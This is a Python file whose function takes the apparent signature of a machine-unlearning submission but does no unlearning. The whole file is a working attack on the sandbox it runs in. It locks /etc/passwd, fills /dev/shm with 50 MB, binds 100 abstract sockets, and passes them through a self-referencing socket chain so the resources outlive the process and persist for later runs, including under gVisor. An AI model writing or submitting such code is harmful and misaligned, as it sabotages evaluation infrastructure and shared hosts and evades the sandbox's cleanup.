"""Sends a named socket, a lock and a file through sockets, each in the next one and the last one in itself.

The kernel notices when the last one cannot be reached any more, and closes all others after it, a few
milliseconds for each. Until then everything in the first one is there for later runs.
"""

import contextlib
import errno
import fcntl
import os
import socket

DEPTH = 300
NAMES = 100


def sent(fds):
    left, right = socket.socketpair()
    socket.send_fds(left, [b"x"], fds)
    for fd in fds:
        os.close(fd)
    left.close()
    return right.detach()


def unlearning(net, retain, forget, val):
    lock = os.open("/etc/passwd", os.O_RDONLY)
    try:
        fcntl.flock(lock, fcntl.LOCK_EX)
    except OSError as error:
        if error.errno != errno.ENOLCK:  # gVisor locks no files of the image
            raise
    file = os.open("/dev/shm/unlearn-hostile", os.O_RDWR | os.O_CREAT)
    os.write(file, bytes(50 << 20))
    os.unlink("/dev/shm/unlearn-hostile")
    fds = [lock, file]
    for number in range(NAMES):
        named = socket.socket(socket.AF_UNIX)
        named.bind(f"\0unlearn-hostile-{number}")
        fds.append(named.detach())
    fd = sent(fds)
    with contextlib.suppress(OSError):  # some kernels allow fewer steps
        for _ in range(DEPTH):
            fd = sent([fd])
    left, right = socket.socketpair()
    socket.send_fds(left, [b"x"], [left.fileno(), right.fileno(), fd])
